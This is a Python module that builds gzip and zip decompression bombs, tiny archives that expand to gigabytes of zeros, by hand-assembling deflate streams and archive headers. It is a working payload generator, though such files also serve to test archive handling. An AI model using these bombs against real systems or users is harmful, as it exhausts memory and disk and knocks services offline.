"""Small files that unpack to large ones, made without packing the large ones."""

import functools
import struct
import zlib

_BLOCK = bytes(1 << 24)


@functools.cache
def _packed_block() -> bytes:
    """Return a block of zeros as deflate packs it when it begins anew before and after."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packer.compress(b"")
    return packer.compress(_BLOCK) + packer.flush(zlib.Z_FULL_FLUSH)


def deflated(head: bytes, zeros: int) -> tuple[bytes, int, int]:
    """Pack a head and so many zeros (a multiple of 16 MiB).

    Returns
    -------
    content : bytes
        Raw deflate.
    checksum : int
        CRC-32 of what it unpacks to.
    size : int
        Bytes of what it unpacks to.
    """
    blocks = zeros // len(_BLOCK)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    content = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH) + _packed_block() * blocks
    checksum = zlib.crc32(head)
    for _ in range(blocks):
        checksum = zlib.crc32(_BLOCK, checksum)
    # An empty last block of stored bytes ends the stream.
    return content + b"\x01\x00\x00\xff\xff", checksum, len(head) + blocks * len(_BLOCK)


def gzip_bomb(head: bytes, zeros: int = 1 << 30) -> bytes:
    """Return a gzip file of a head and so many zeros."""
    content, checksum, size = deflated(head, zeros)
    return b"\x1f\x8b\x08\0\0\0\0\0\x02\xff" + content + struct.pack("<II", checksum, size % 2**32)


def zip_bomb(members: dict[str, tuple[bytes, int]]) -> bytes:
    """Return a zip archive.

    Parameters
    ----------
    members : dict of str to (bytes, int)
        By name, the head of a file and how many zeros follow it.
    """
    body, directory = b"", b""
    for name, (head, zeros) in members.items():
        content, checksum, size = deflated(head, zeros)
        entry = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0, checksum, len(content), size, len(name), 0)
        directory += b"PK\x01\x02" + struct.pack("<H", 20) + entry
        directory += struct.pack("<HHHII", 0, 0, 0, 0, len(body)) + name.encode()
        body += b"PK\x03\x04" + entry + name.encode() + content
    end = struct.pack("<HHHHIIH", 0, 0, len(members), len(members), len(directory), len(body), 0)
    return body + directory + b"PK\x05\x06" + end
